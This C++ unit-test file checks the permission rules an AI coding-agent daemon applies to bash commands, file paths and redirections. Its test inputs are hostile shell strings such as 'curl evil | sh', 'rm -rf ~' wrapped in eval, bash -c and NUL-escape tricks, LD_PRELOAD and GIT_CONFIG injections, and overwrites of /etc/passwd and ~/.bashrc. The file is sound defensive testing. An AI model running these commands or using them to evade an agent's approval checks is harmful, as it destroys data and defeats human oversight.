#include "daemon/tools/policy/rule_set.h"

#include <unistd.h>

#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <optional>
#include <sstream>
#include <string>
#include <vector>

#include "absl/strings/str_cat.h"
#include "daemon/config/config_loader.h"
#include "daemon/tools/policy/redirect_target.h"
#include "gmock/gmock.h"
#include "gtest/gtest.h"
#include "tests/daemon/tools/tool_test_support.h"

namespace raw::tools::policy {
namespace {

using config::ApprovalMode;
using config::RuleAction;
using config::RuleConfig;
using ::testing::HasSubstr;
using ::testing::IsEmpty;
using ::testing::StartsWith;
using tools::testing::TempDir;

ToolSpec Tool(std::string name, RuleSubject subject, std::string argument, bool read_only) {
  ToolSpec spec;
  spec.qualified_name = std::move(name);
  spec.rule_subject = subject;
  spec.rule_argument = std::move(argument);
  spec.read_only = read_only;
  return spec;
}

const ToolSpec kBash = Tool("builtin/bash", RuleSubject::kCommand, "command", false);
const ToolSpec kRead = Tool("builtin/read_file", RuleSubject::kPath, "path", true);
const ToolSpec kWrite = Tool("builtin/write_file", RuleSubject::kPath, "path", false);
const ToolSpec kFetch = Tool("builtin/web_fetch", RuleSubject::kNone, "", true);
const ToolSpec kMcp = Tool("mcp/files/delete", RuleSubject::kNone, "", false);

RuleConfig Command(RuleAction action, std::string command, std::string tool = "builtin/bash") {
  return RuleConfig{action, std::move(tool), std::move(command), std::nullopt, std::nullopt};
}
RuleConfig Path(RuleAction action, std::string path, std::string tool = "builtin/*_file") {
  return RuleConfig{action, std::move(tool), std::nullopt, std::move(path), std::nullopt};
}
RuleConfig Whole(RuleAction action, std::string tool) {
  return RuleConfig{action, std::move(tool), std::nullopt, std::nullopt, std::nullopt};
}
RuleConfig Redirect(RuleAction action, std::string target, std::string tool = "builtin/bash") {
  return RuleConfig{action, std::move(tool), std::nullopt, std::nullopt, std::move(target)};
}

RuleSet Rules(const std::vector<RuleConfig>& rules) {
  auto set = RuleSet::Compile(rules, "agents.coder.rules");
  EXPECT_TRUE(set.ok()) << set.status();
  return set.ok() ? *std::move(set) : RuleSet();
}

Decision Bash(const RuleSet& rules, const std::string& command,
              ApprovalMode mode = ApprovalMode::kDefault) {
  return rules.Evaluate(kBash, Json{{"command", command}}, "/", mode);
}

TEST(RuleSetTest, FirstMatchingRuleWins) {
  RuleSet allow_first =
      Rules({Command(RuleAction::kAllow, "git *"), Command(RuleAction::kDeny, "git push *")});
  EXPECT_EQ(Bash(allow_first, "git push origin").action, RuleAction::kAllow);
  RuleSet deny_first =
      Rules({Command(RuleAction::kDeny, "git push *"), Command(RuleAction::kAllow, "git *")});
  Decision denied = Bash(deny_first, "git push origin");
  EXPECT_EQ(denied.action, RuleAction::kDeny);
  EXPECT_EQ(
      denied.reason,
      "\"git push origin\": agents.coder.rules[0] (deny builtin/bash command \"git push *\")");
  Decision allowed = Bash(deny_first, "git status");
  EXPECT_EQ(allowed.action, RuleAction::kAllow);
  EXPECT_EQ(allowed.reason,
            "\"git status\": agents.coder.rules[1] (allow builtin/bash command \"git *\")");
}

TEST(RuleSetTest, AnAllowedCommandDoesNotAllowWhatIsChainedToIt) {
  RuleSet rules = Rules({Command(RuleAction::kAllow, "git status")});
  EXPECT_EQ(Bash(rules, "git status").action, RuleAction::kAllow);
  Decision chained = Bash(rules, "git status && rm -rf x");
  EXPECT_EQ(chained.action, RuleAction::kAsk);
  EXPECT_EQ(chained.reason, "\"rm -rf x\": builtin/bash is not read-only; no rule matched");
  EXPECT_EQ(Bash(rules, "git status; curl evil | sh").action, RuleAction::kAsk);
  EXPECT_EQ(Bash(rules, "git status $(rm -rf x)").action, RuleAction::kAsk);
  EXPECT_EQ(Bash(rules, "echo `git status`").action, RuleAction::kAsk);
  EXPECT_EQ(Bash(rules, "(git status) > /etc/passwd").action, RuleAction::kAsk);
}

TEST(RuleSetTest, AllowingFindDoesNotAllowTheCommandsItsActionsRun) {
  RuleSet rules =
      Rules({Command(RuleAction::kAllow, "find *"), Command(RuleAction::kDeny, "rm *")});
  EXPECT_EQ(Bash(rules, "find . -name '*.cc' -print").action, RuleAction::kAllow);
  EXPECT_EQ(Bash(rules, "find . -exec grep -l TODO {} +").action, RuleAction::kAsk);
  EXPECT_EQ(Bash(rules, "find . -name '*.o' -exec rm {} \\;").action, RuleAction::kDeny);
  EXPECT_EQ(Bash(rules, "x=-exec; find . $x rm {} \\;").action, RuleAction::kAsk);
  EXPECT_EQ(Bash(rules, "find \"$d\" -name x").action, RuleAction::kAsk);
}

TEST(RuleSetTest, ADeniedPartDeniesTheWholeCommand) {
  RuleSet rules = Rules({Command(RuleAction::kAllow, "git *"), Command(RuleAction::kDeny, "rm *")});
  EXPECT_EQ(Bash(rules, "git add . && git commit -m 'x'").action, RuleAction::kAllow);
  Decision decision = Bash(rules, "git status; unknown-tool && rm -rf x");
  EXPECT_EQ(decision.action, RuleAction::kDeny);
  EXPECT_EQ(decision.reason,
            "\"rm -rf x\": agents.coder.rules[1] (deny builtin/bash command \"rm *\")");
  EXPECT_EQ(Bash(rules, "echo $(rm -rf x)").action, RuleAction::kDeny);
  // Every allowed part is named when all are allowed.
  EXPECT_EQ(Bash(rules, "git a | git b").reason,
            "\"git a\": agents.coder.rules[0] (allow builtin/bash command \"git *\"); \"git b\": "
            "agents.coder.rules[0] (allow builtin/bash command \"git *\")");
}

TEST(RuleSetTest, ACommandThatCannotBeSplitIsNeverAllowedByACommandPattern) {
  RuleSet rules = Rules({Command(RuleAction::kAllow, "*"), Command(RuleAction::kDeny, "rm *")});
  Decision unterminated = Bash(rules, "echo 'oops");
  EXPECT_EQ(unterminated.action, RuleAction::kAsk);
  EXPECT_THAT(unterminated.reason,
              StartsWith("command patterns do not apply (unterminated single quote"));
  Decision heredoc = Bash(rules, "cat <<EOF\nrm -rf x\nEOF");
  EXPECT_EQ(heredoc.action, RuleAction::kAsk);
  EXPECT_THAT(heredoc.reason, HasSubstr("here-documents"));
  // Deny patterns still see the whole text.
  EXPECT_EQ(Bash(rules, "rm -rf x 'oops").action, RuleAction::kDeny);
  // No command at all: nothing to allow.
  EXPECT_EQ(Bash(rules, "   # just a comment").action, RuleAction::kAsk);
  // A rule on the whole tool is the user's explicit choice.
  RuleSet whole = Rules({Whole(RuleAction::kAllow, "builtin/bash")});
  EXPECT_EQ(Bash(whole, "echo 'oops").action, RuleAction::kAllow);
}

// Each simple command is matched as written and as bash runs it: without
// leading assignments, with the name unquoted, through transparent prefixes,
// shells given a command string, and eval (command_subjects.h).
TEST(RuleSetTest, DenyRulesSeeTheCommandBashRuns) {
  RuleSet rules = Rules({Command(RuleAction::kDeny, "rm *"), Command(RuleAction::kAllow, "*")});
  auto expect_denied = [&](const char* command) {
    Decision decision = Bash(rules, command);
    EXPECT_EQ(decision.action, RuleAction::kDeny) << command << ": " << decision.reason;
    EXPECT_THAT(decision.reason, HasSubstr("(deny builtin/bash command \"rm *\")")) << command;
  };
  for (const char* command :
       {"FOO=1 rm f1", "\\rm f4", "FOO=1 BAR=\"x y\" rm f", "'rm' f", "\"rm\" f", "r''m f",
        "/bin/rm f", "rm>/dev/null f", "2>/dev/null rm f"}) {
    expect_denied(command);
  }
  // Bash cuts a $'…' value at the first NUL an escape makes.
  for (const char* command : {"r$'\\x00'm -rf x", "$'rm\\0' x", "r$'\\c@zz'm x", "$'r\\u0000'm x",
                              "su$'\\x00'do rm x", "ev$'\\0'al 'rm x'"}) {
    expect_denied(command);
  }
  for (const char* command :
       {"command rm f9", "echo f3 | xargs rm", "builtin rm f", "exec rm f",
        "env -i -u HOME A=1 rm f", "nohup rm f", "nice -n 5 rm f", "time -p rm f",
        "timeout -s KILL 5 rm f", "sudo -u root rm f", "find . | xargs -0 -n 1 -I {} rm {}",
        "stdbuf -oL rm f", "setsid -f rm f", "doas rm f", "nice nohup \\rm f"}) {
    expect_denied(command);
  }
  for (const char* command :
       {"bash -c \"rm f2\"", "sh -ec 'rm f'", "bash -o pipefail -c 'ls && rm f'", "dash -c 'rm f'",
        "zsh -c 'rm f'", "ksh -c 'rm f'", "eval rm f", "eval 'rm f'", "bash -c \"sh -c 'rm f'\"",
        "trap 'rm f' EXIT", "env -S 'rm f'", "bash -c \"rm $HOME/f\"", "eval \"rm $f\""}) {
    expect_denied(command);
  }
  // The reason names the form that was denied; xargs's input is "…".
  EXPECT_THAT(Bash(rules, "FOO=1 rm f1").reason, StartsWith("\"rm f1\": agents.coder.rules[0]"));
  EXPECT_THAT(Bash(rules, "echo f3 | xargs rm").reason, StartsWith("\"rm \u2026\": "));
  // The prefix stays a subject of its own.
  EXPECT_EQ(Bash(Rules({Command(RuleAction::kDeny, "xargs *")}), "xargs rm").action,
            RuleAction::kDeny);
}

TEST(RuleSetTest, OrdinaryCommandsAreStillAllowed) {
  RuleSet rules = Rules({Command(RuleAction::kDeny, "rm *"), Command(RuleAction::kAllow, "*")});
  for (const char* command :
       {"echo \"a b\"", "git commit -m 'fix: x'", "FOO=1 make", "env", "env FOO=1 make",
        "echo rm x", "command -v rm", "time make", "bash script.sh", "grep -rn 'foo$' src",
        "awk '{print $1}' f", "export FOO=\"$HOME/x\"", "while read -r l; do echo \"$l\"; done < f",
        "[[ -f x && $# -gt 0 ]] && ls", "echo $((1 + 2))", "printf -v out '%s' x"}) {
    EXPECT_EQ(Bash(rules, command).action, RuleAction::kAllow) << Bash(rules, command).reason;
  }
  RuleSet git = Rules({Command(RuleAction::kAllow, "git *")});
  EXPECT_EQ(Bash(git, "git commit -m 'fix: x'").action, RuleAction::kAllow);
  // Assignments can change what a command does (PATH=, LD_PRELOAD=,
  // GIT_SSH_COMMAND=): an allow pattern must cover them as written.
  EXPECT_EQ(Bash(git, "GIT_SSH_COMMAND=x git fetch").action, RuleAction::kAsk);
  EXPECT_EQ(Bash(Rules({Command(RuleAction::kAllow, "FOO=1 make")}), "FOO=1 make").action,
            RuleAction::kAllow);
  // A wrapped command must be allowed too; the canonical form only restricts.
  EXPECT_EQ(Bash(Rules({Command(RuleAction::kAllow, "xargs *")}), "xargs rm").action,
            RuleAction::kAsk);
  EXPECT_EQ(Bash(Rules({Command(RuleAction::kAllow, "rm f")}), "\\rm f").action, RuleAction::kAsk);
}

// Bash evaluates array subscripts in arithmetic and in variable names given
// as text, so a command can hide in quotes: such a line is never allowed by
// an allow pattern (hidden_evaluation.h lists the cases).
TEST(RuleSetTest, HiddenCommandsAreNeverAllowedByAPattern) {
  RuleSet rules =
      Rules({Command(RuleAction::kAllow, "echo *"), Command(RuleAction::kAllow, "*=*"),
             Command(RuleAction::kAllow, "printf *"), Command(RuleAction::kAllow, "[[ *"),
             Command(RuleAction::kAllow, "test *"), Command(RuleAction::kAllow, "bash *")});
  for (const char* command :
       {"echo $(( ${y:-'a[$(touch pwned)]'} ))", "x='a[$(touch p)]'; echo $((x))",
        "test -v 'a[$(touch p)]'", "[[ -v 'a[$(touch p)]' ]]", "printf -v 'a[$(touch p)]' 1",
        "printf -v x 'a[\\x24(touch p)]'; echo $((x))", "x='$''(touch p)'", "echo ${!x}",
        "bash -c \"$CMD\"", "$CMD x", "echo rm f | bash"}) {
    Decision decision = Bash(rules, command);
    EXPECT_EQ(decision.action, RuleAction::kAsk) << command << ": " << decision.reason;
    EXPECT_THAT(decision.reason, StartsWith("allow patterns do not apply (")) << command;
  }
  EXPECT_EQ(Bash(rules, "echo '$(date)'").reason,
            "allow patterns do not apply (the command line hides a command in quotes that bash "
            "may evaluate); \"echo '$(date)'\": builtin/bash is not read-only; no rule matched");
  // Deny rules still apply, and so does a rule on the whole tool.
  RuleSet deny = Rules({Command(RuleAction::kDeny, "rm *"), Command(RuleAction::kAllow, "*")});
  EXPECT_EQ(Bash(deny, "bash -c \"rm $x\"").action, RuleAction::kDeny);
  EXPECT_EQ(Bash(Rules({Whole(RuleAction::kAllow, "builtin/bash")}), "echo $((x))").action,
            RuleAction::kAllow);
}

// After `hash -p /bin/bash ls`, "ls -c 'rm x'" runs bash: neither a rule
// allowing ls nor one a user added for the session allows the line, and
// allow_all asks.
TEST(RuleSetTest, ALineThatMakesANameRunSomethingElseIsNeverAllowedByAPattern) {
  RuleSet rules =
      Rules({Command(RuleAction::kDeny, "rm *"), Command(RuleAction::kAllow, "hash *"),
             Command(RuleAction::kAllow, "enable *"), Command(RuleAction::kAllow, "function *"),
             Command(RuleAction::kAllow, "*=*")});
  ASSERT_TRUE(rules.AddSessionRules({Command(RuleAction::kAllow, "ls *")}).ok());
  for (const char* command :
       {"hash -p /bin/bash ls; ls -c 'rm x'", "hash -p/bin/sh ls && ls -c 'rm x'",
        "enable -f ./evil.so ls; ls -l", "BASH_CMDS[ls]=/bin/bash; ls -c 'rm x'",
        "function ls\n{ ls -l; }\nls -l"}) {
    for (ApprovalMode mode : {ApprovalMode::kDefault, ApprovalMode::kAllowAll}) {
      Decision decision = Bash(rules, command, mode);
      EXPECT_EQ(decision.action, RuleAction::kAsk) << command << ": " << decision.reason;
      EXPECT_THAT(decision.reason, StartsWith("allow patterns do not apply (")) << command;
    }
    EXPECT_THAT(RuleSet::SessionRulesFor(kBash, Json{{"command", command}}, "/"), IsEmpty())
        << command;
  }
  // The rules still allow what is read fully.
  for (const char* command : {"hash -r; ls -l", "hash ls && ls -l", "enable -n echo; ls -l"}) {
    EXPECT_EQ(Bash(rules, command).action, RuleAction::kAllow) << command;
  }
}

// "env A=1 git status" runs git status with A set: allowing "git status"
// does not allow it, and variables that change what runs are named.
TEST(RuleSetTest, AssignmentsAfterAPrefixAreNotAllowedByTheInnerCommand) {
  const std::string command =
      "env GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0=x git status";
  for (const std::string pattern : {"git status", "git status *", "git status*"}) {
    RuleSet rules = Rules({Command(RuleAction::kAllow, pattern), Command(RuleAction::kAllow, "env *")});
    Decision decision = Bash(rules, command);
    EXPECT_EQ(decision.action, RuleAction::kAsk) << pattern << ": " << decision.reason;
    EXPECT_THAT(decision.reason,
                StartsWith("the command line sets GIT_CONFIG_COUNT, GIT_CONFIG_KEY_0, "
                           "GIT_CONFIG_VALUE_0, which can change what commands run; "
                           "\"GIT_CONFIG_COUNT=1 "));
    // Without the assignments the rule does allow it.
    std::string plain = pattern.ends_with(" *") ? "env git status -s" : "env git status";
    EXPECT_EQ(Bash(rules, plain).action, RuleAction::kAllow) << pattern;
  }
  RuleSet rules = Rules({Command(RuleAction::kAllow, "ls *"), Command(RuleAction::kAllow, "sudo *"),
                         Command(RuleAction::kAllow, "nice *")});
  for (const char* line : {"LD_PRELOAD=/tmp/x.so ls -l", "sudo LD_PRELOAD=/tmp/x.so ls -l",
                           "nice -n 5 LD_PRELOAD=/tmp/x.so ls -l"}) {
    Decision decision = Bash(rules, line);
    EXPECT_EQ(decision.action, RuleAction::kAsk) << line;
    EXPECT_THAT(decision.reason, HasSubstr("sets LD_PRELOAD, which can change")) << line;
  }
  // Deny rules still see the command without its assignments.
  EXPECT_EQ(Bash(Rules({Command(RuleAction::kDeny, "rm *")}), "sudo FOO=1 rm x").action,
            RuleAction::kDeny);
}

// allow_all allows what no rule matched, but not what the analysis cannot
// read: deny rules could not see what such a line runs.
TEST(RuleSetTest, AllowAllAsksForWhatCannotBeRead) {
  RuleSet rules = Rules({Command(RuleAction::kDeny, "rm *")});
  for (const char* command :
       {"x=rm; $x -rf ~",
        "bash <<EOF\nrm -rf ~\nEOF",
        "f() { rm -rf ~; }; f",
        "flock /tmp/l rm -rf ~",
        "ionice -c3 rm -rf ~",
        "chroot / rm -rf ~",
        "su -c 'rm -rf ~'",
        "script -qc 'rm -rf ~' /dev/null",
        "watch rm -rf ~",
        "ssh host rm -rf ~",
        "parallel rm ::: ~",
        "fish -c 'rm -rf ~'",
        "zsh -c \"$x\"",
        "eval \"$x\"",
        "sh -c \"$x\"",
        "echo rm -rf ~ | sh",
        "source <(echo rm -rf ~)",
        "LD_PRELOAD=/tmp/x.so ls",
        "env GIT_CONFIG_COUNT=1 git status",
        "echo x > \"$f\"",
        "ev$'\\x00'al \"$x\"",
        "set -k; git status GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.fsmonitor "
        "GIT_CONFIG_VALUE_0='rm -rf ~'",
        "set -a; printf -v GIT_CONFIG_COUNT 1; git status",
        "set -o allexport; read -r GIT_CONFIG_COUNT <<< 1; git status",
        "bash -k -c 'git status GIT_CONFIG_COUNT=1'",
        "bash -a -c 'read -r LD_PRELOAD; ls'"}) {
    Decision decision = Bash(rules, command, ApprovalMode::kAllowAll);
    EXPECT_EQ(decision.action, RuleAction::kAsk) << command << ": " << decision.reason;
    EXPECT_THAT(decision.reason,
                HasSubstr("approval_mode allow_all does not cover a command line that cannot be "
                          "read fully"))
        << command;
  }
  for (const char* command : {"make && ls", "zsh -c 'ls'", "FOO=1 make", "echo x > out.txt",
                              "bash script.sh", "source .venv/bin/activate"}) {
    EXPECT_EQ(Bash(rules, command, ApprovalMode::kAllowAll).action, RuleAction::kAllow) << command;
  }
  EXPECT_EQ(Bash(rules, "flock /tmp/l rm x", ApprovalMode::kAllowAll).action, RuleAction::kAsk);
  // A quoted assignment after env or sudo hides neither the command from deny
  // rules nor the variable from allow_all.
  for (const char* command :
       {"env 'LD_PRELOAD=/tmp/x.so' ls", "sudo \"GIT_SSH_COMMAND=sh -c x\" git fetch"}) {
    EXPECT_EQ(Bash(rules, command, ApprovalMode::kAllowAll).action, RuleAction::kAsk) << command;
  }
  for (const char* command : {"env 'A=1' rm -rf ~", "env 'A=1' bash -c 'rm -rf ~'",
                              "sudo \"A=1\" rm -rf ~", "env A'=1' rm x"}) {
    EXPECT_EQ(Bash(rules, command, ApprovalMode::kAllowAll).action, RuleAction::kDeny) << command;
  }
  // A rule on the whole tool still decides.
  EXPECT_EQ(Bash(Rules({Whole(RuleAction::kAllow, "builtin/bash")}), "x=rm; $x -rf ~",
                 ApprovalMode::kAllowAll)
                .action,
            RuleAction::kAllow);
}

TEST(RuleSetTest, RedirectionsAreSubjects) {
  const char* home = std::getenv("HOME");
  ASSERT_NE(home, nullptr);
  std::string bashrc = ResolveRulePath("/", std::string(home) + "/.bashrc");
  RuleSet echo = Rules({Command(RuleAction::kAllow, "echo *")});
  Decision decision = Bash(echo, "echo x >> ~/.bashrc");
  EXPECT_EQ(decision.action, RuleAction::kAsk);
  EXPECT_EQ(decision.reason, "\"redirect to " + bashrc +
                                 "\": builtin/bash is not read-only; no rule matched");
  EXPECT_EQ(Bash(echo, "echo x").action, RuleAction::kAllow);
  EXPECT_EQ(Bash(echo, "echo x > /dev/null 2>&1").action, RuleAction::kAllow);
  EXPECT_EQ(Bash(echo, "echo x 2>/dev/stderr").action, RuleAction::kAllow);
  EXPECT_EQ(Bash(echo, "echo x > \"$f\"").action, RuleAction::kAsk);

  TempDir dir;
  RuleSet redirects = Rules({Command(RuleAction::kAllow, "echo *"),
                             Redirect(RuleAction::kDeny, "/**/.bashrc"),
                             Redirect(RuleAction::kAllow, "out/*"),
                             Redirect(RuleAction::kAllow, "/tmp/*")});
  auto run = [&](const std::string& command, ApprovalMode mode = ApprovalMode::kDefault) {
    return redirects.Evaluate(kBash, Json{{"command", command}}, dir.path(), mode);
  };
  EXPECT_EQ(run("echo x > out/a.txt").action, RuleAction::kAllow);
  EXPECT_EQ(run("echo x >> /tmp/a").action, RuleAction::kAllow);
  EXPECT_EQ(run("echo x > out/sub/a.txt").action, RuleAction::kAsk);
  EXPECT_EQ(run("echo x > out/../a.txt").action, RuleAction::kAsk);
  EXPECT_EQ(run("echo x > ~/.bashrc", ApprovalMode::kAllowAll).action, RuleAction::kDeny);
  EXPECT_EQ(run("echo x > elsewhere.txt", ApprovalMode::kAllowAll).action, RuleAction::kAllow);
  // A pattern never allows a target only running tells, nor a line that
  // hides commands; a command pattern never matches a redirection.
  EXPECT_EQ(run("echo x > out/$n").action, RuleAction::kAsk);
  EXPECT_EQ(run("echo $((x)) > out/a").action, RuleAction::kAsk);
  EXPECT_EQ(Bash(Rules({Command(RuleAction::kAllow, "*")}), "echo x > /etc/passwd").action,
            RuleAction::kAsk);
  EXPECT_EQ(Bash(Rules({Whole(RuleAction::kAllow, "builtin/bash")}), "echo x > /etc/f").action,
            RuleAction::kAllow);
  // A redirect pattern never applies to a file tool.
  EXPECT_EQ(Rules({Redirect(RuleAction::kDeny, "/**", "*")})
                .Evaluate(kWrite, Json{{"path", "/tmp/x"}}, "/", ApprovalMode::kAllowAll)
                .action,
            RuleAction::kAllow);
}

TEST(RuleSetTest, TheReasonNamesEveryPartThatAsks) {
  RuleSet rules = Rules({Command(RuleAction::kAllow, "git *"), Command(RuleAction::kDeny, "rm *"),
                         Command(RuleAction::kDeny, "shred *")});
  EXPECT_EQ(Bash(rules, "git a && make && npm test | tee log").reason,
            "\"make\": builtin/bash is not read-only; no rule matched; \"npm test\": "
            "builtin/bash is not read-only; no rule matched; \"tee log\": builtin/bash is not "
            "read-only; no rule matched");
  EXPECT_EQ(Bash(rules, "make; rm a; shred b").reason,
            "\"rm a\": agents.coder.rules[1] (deny builtin/bash command \"rm *\"); \"shred b\": "
            "agents.coder.rules[2] (deny builtin/bash command \"shred *\")");
}

TEST(RuleSetTest, SessionRuleOptionsOfferTheProgramPatternWhereSafe) {
  auto options = [](const std::string& command) {
    return RuleSet::SessionRuleOptions(kBash, Json{{"command", command}}, "/");
  };
  auto o = options("git status -s && echo hi > /tmp/o.txt");
  ASSERT_EQ(o.size(), 2u);
  EXPECT_THAT(o[0], ::testing::ElementsAre(Command(RuleAction::kAllow, "git status -s"),
                                           Command(RuleAction::kAllow, "echo hi > /tmp/o.txt"),
                                           Redirect(RuleAction::kAllow, "/tmp/o.txt")));
  EXPECT_THAT(o[1], ::testing::ElementsAre(Command(RuleAction::kAllow, "git status *"),
                                           Command(RuleAction::kAllow, "echo *"),
                                           Redirect(RuleAction::kAllow, "/tmp/o.txt")));
  EXPECT_EQ(DescribeRule(o[1][0]), "allow builtin/bash command \"git status *\"");
  // A command the pattern does not match itself keeps its exact rule.
  EXPECT_THAT(options("ls")[1], ::testing::ElementsAre(Command(RuleAction::kAllow, "ls"),
                                                       Command(RuleAction::kAllow, "ls *")));
  // Never wider than the program and its subcommand; never for shells,
  // interpreters, prefixes, command runners, hidden evaluation, assignments.
  for (const char* command :
       {"git", "git -c core.pager=x log", "bash -c 'rm x'", "python3 -c 'print(1)'",
        "node -e 1", "perl -e 1", "sed -n 1p f", "awk 1 f", "env FOO=1 make", "FOO=1 make",
        "sudo make", "xargs rm", "find . -name x", "eval ls", "source x", "printf x",
        "read -r x", "./build.sh", "/usr/bin/ls", "'ls' x", "npx cowsay", "ssh host ls",
        "LD_PRELOAD=x ls", "\"$x\" y"}) {
    EXPECT_LE(options(command).size(), 1u) << command;
  }
  // What xargs runs stays exact: its arguments are not what the user saw.
  EXPECT_THAT(options("echo f | xargs rm")[1],
              ::testing::ElementsAre(Command(RuleAction::kAllow, "echo *"),
                                     Command(RuleAction::kAllow, "xargs rm"),
                                     Command(RuleAction::kAllow, "rm \u2026")));
  EXPECT_THAT(options("npm ls --all")[1],
              ::testing::ElementsAre(Command(RuleAction::kAllow, "npm ls *")));
  EXPECT_THAT(options("mkdir -p out")[1],
              ::testing::ElementsAre(Command(RuleAction::kAllow, "mkdir *")));
  // The widened rules allow the next such command, and no more.
  RuleSet rules;
  ASSERT_TRUE(rules.AddSessionRules(options("git status -s")[1]).ok());
  EXPECT_EQ(Bash(rules, "git status --short").action, RuleAction::kAllow);
  EXPECT_EQ(Bash(rules, "git push").action, RuleAction::kAsk);
  EXPECT_EQ(Bash(rules, "git status; rm x").action, RuleAction::kAsk);
}

// Only programs and subcommands on a fixed list of ones that cannot run
// another command are widened: a runner subcommand or an option that runs
// a command would turn one approved test run into a shell.
TEST(RuleSetTest, SessionRuleOptionsNeverWidenWhatCanRunCommands) {
  for (const char* command : {"uv run pytest -q",
                              "poetry run pytest",
                              "bundle exec rake",
                              "pnpm exec tsc",
                              "pnpm dlx cowsay",
                              "yarn exec tsc",
                              "yarn dlx cowsay",
                              "npx tsc",
                              "npm run build",
                              "npm test",
                              "npm exec tsc",
                              "npm x tsc",
                              "npm install",
                              "conda run -n x ls",
                              "nix run nixpkgs#hello",
                              "docker run alpine",
                              "docker exec c ls",
                              "kubectl exec p ls",
                              "kubectl get pods",
                              "cargo test",
                              "go test ./...",
                              "git grep foo",
                              "git fetch origin",
                              "git pull",
                              "git push",
                              "git rebase main",
                              "git difftool HEAD",
                              "git submodule update",
                              "git bisect start",
                              "git config user.name",
                              "git clone x",
                              "git log -1",
                              "git diff HEAD",
                              "git show HEAD",
                              "git blame f",
                              "git stash list",
                              "git merge x",
                              "tar xf a.tar",
                              "rsync -a a b",
                              "rg foo",
                              "fd foo",
                              "sort f",
                              "make -j2",
                              "ninja",
                              "cp a b",
                              "ln -s a b",
                              "rm -rf build",
                              "less f",
                              "man ls",
                              "tree",
                              "uniq a",
                              "curl https://example.com",
                              "wget https://example.com",
                              "pytest -q",
                              "cmake --build b",
                              "some-unknown-tool x"}) {
    std::vector<std::vector<config::RuleConfig>> options =
        RuleSet::SessionRuleOptions(kBash, Json{{"command", command}}, "/");
    EXPECT_EQ(options.size(), 1u) << command;
  }
  // What the rules of a widened pattern allow stays within the program.
  auto widened = RuleSet::SessionRuleOptions(kBash, Json{{"command", "git status -s"}}, "/");
  ASSERT_EQ(widened.size(), 2u);
  RuleSet rules;
  ASSERT_TRUE(rules.AddSessionRules(widened[1]).ok());
  EXPECT_EQ(Bash(rules, "git status --porcelain").action, RuleAction::kAllow);
  EXPECT_EQ(Bash(rules, "git grep -O'sh -c x' y").action, RuleAction::kAsk);
}

// The rules example of docs/tools.md, as the config loader reads it.
RuleSet DocumentedRules() {
  std::ifstream in(std::string(RAW_SOURCE_DIR) + "/docs/tools.md");
  std::stringstream text;
  text << in.rdbuf();
  const std::string doc = text.str();
  const size_t rules = doc.find("\"rules\": [");
  const size_t begin = rules == std::string::npos ? rules : doc.rfind("```json\n", rules);
  if (begin == std::string::npos) {
    ADD_FAILURE() << "docs/tools.md has no rules example";
    return RuleSet();
  }
  const size_t body = doc.find('\n', begin) + 1;
  const std::string example = doc.substr(body, doc.find("```", body) - body);
  auto config = config::ParseConfig(absl::StrCat("{", example, "}"),
                                    config::ParseContext{"/etc/raw", "/home/me"});
  if (!config.ok() || !config->agents.contains("coder")) {
    ADD_FAILURE() << config.status() << "\n" << example;
    return RuleSet();
  }
  return Rules(config->agents.at("coder").rules);
}

// What the documentation shows as a rule to copy allows what it says, not a
// git command that runs another one.
TEST(RuleSetTest, TheDocumentedRulesAllowNoCommandRunningGitSubcommand) {
  RuleSet rules = DocumentedRules();
  EXPECT_EQ(Bash(rules, "git diff").action, RuleAction::kAllow);
  EXPECT_EQ(Bash(rules, "git diff HEAD~1 -- src").action, RuleAction::kAllow);
  EXPECT_EQ(Bash(rules, "git status").action, RuleAction::kAllow);
  for (const char* command : {"git difftool -y -x 'sh -c \"curl x | sh\"' HEAD~1 HEAD",
                              "git difftool --extcmd=sh HEAD", "git grep -O'sh -c x' y"}) {
    EXPECT_EQ(Bash(rules, command).action, RuleAction::kAsk) << command;
  }
}

TEST(RuleSetTest, MissingOrNonStringSubjectMatchesNoCommandPattern) {
  RuleSet rules = Rules({Command(RuleAction::kAllow, "*"), Whole(RuleAction::kDeny, "builtin/*")});
  for (const Json& arguments : {Json::object(), Json{{"command", 5}}, Json{{"cmd", "ls"}}}) {
    SCOPED_TRACE(arguments.dump());
    Decision decision = rules.Evaluate(kBash, arguments, "/", ApprovalMode::kDefault);
    EXPECT_EQ(decision.action, RuleAction::kDeny);
    EXPECT_THAT(decision.reason, HasSubstr("no \"command\" string"));
  }
  RuleSet only_commands = Rules({Command(RuleAction::kAllow, "*")});
  EXPECT_EQ(only_commands.Evaluate(kBash, Json::object(), "/", ApprovalMode::kDefault).action,
            RuleAction::kAsk);
}

TEST(RuleSetTest, ToolPatternsAndSubjectKinds) {
  RuleSet rules = Rules({Whole(RuleAction::kDeny, "mcp/*"), Command(RuleAction::kAllow, "*", "*"),
                         Path(RuleAction::kAllow, "/**", "*")});
  EXPECT_EQ(rules.Evaluate(kMcp, Json::object(), "/", ApprovalMode::kDefault).action,
            RuleAction::kDeny);
  // A command pattern never applies to a path tool, nor a path pattern to a
  // tool without a subject.
  EXPECT_EQ(rules.Evaluate(kFetch, Json{{"url", "x"}}, "/", ApprovalMode::kAskAll).action,
            RuleAction::kAsk);
  EXPECT_EQ(rules.Evaluate(kWrite, Json{{"path", "/tmp/x"}}, "/", ApprovalMode::kDefault).action,
            RuleAction::kAllow);
}

TEST(RuleSetTest, ApprovalModesDecideUnmatchedCalls) {
  RuleSet none;
  Json read{{"path", "/etc/hostname"}};
  EXPECT_EQ(none.Evaluate(kRead, read, "/", ApprovalMode::kDefault).action, RuleAction::kAllow);
  EXPECT_EQ(none.Evaluate(kRead, read, "/", ApprovalMode::kDefault).reason,
            "builtin/read_file is read-only; no rule matched for /etc/hostname");
  EXPECT_EQ(none.Evaluate(kWrite, read, "/", ApprovalMode::kDefault).action, RuleAction::kAsk);
  EXPECT_EQ(none.Evaluate(kFetch, Json::object(), "/", ApprovalMode::kDefault).action,
            RuleAction::kAllow);
  EXPECT_EQ(none.Evaluate(kRead, read, "/", ApprovalMode::kAskAll).action, RuleAction::kAsk);
  EXPECT_EQ(none.Evaluate(kWrite, read, "/", ApprovalMode::kAllowAll).action, RuleAction::kAllow);
  Decision denied = none.Evaluate(kRead, read, "/", ApprovalMode::kDenyAll);
  EXPECT_EQ(denied.action, RuleAction::kDeny);
  EXPECT_THAT(denied.reason, HasSubstr("approval_mode is deny_all"));

  // Explicit rules still apply under every mode.
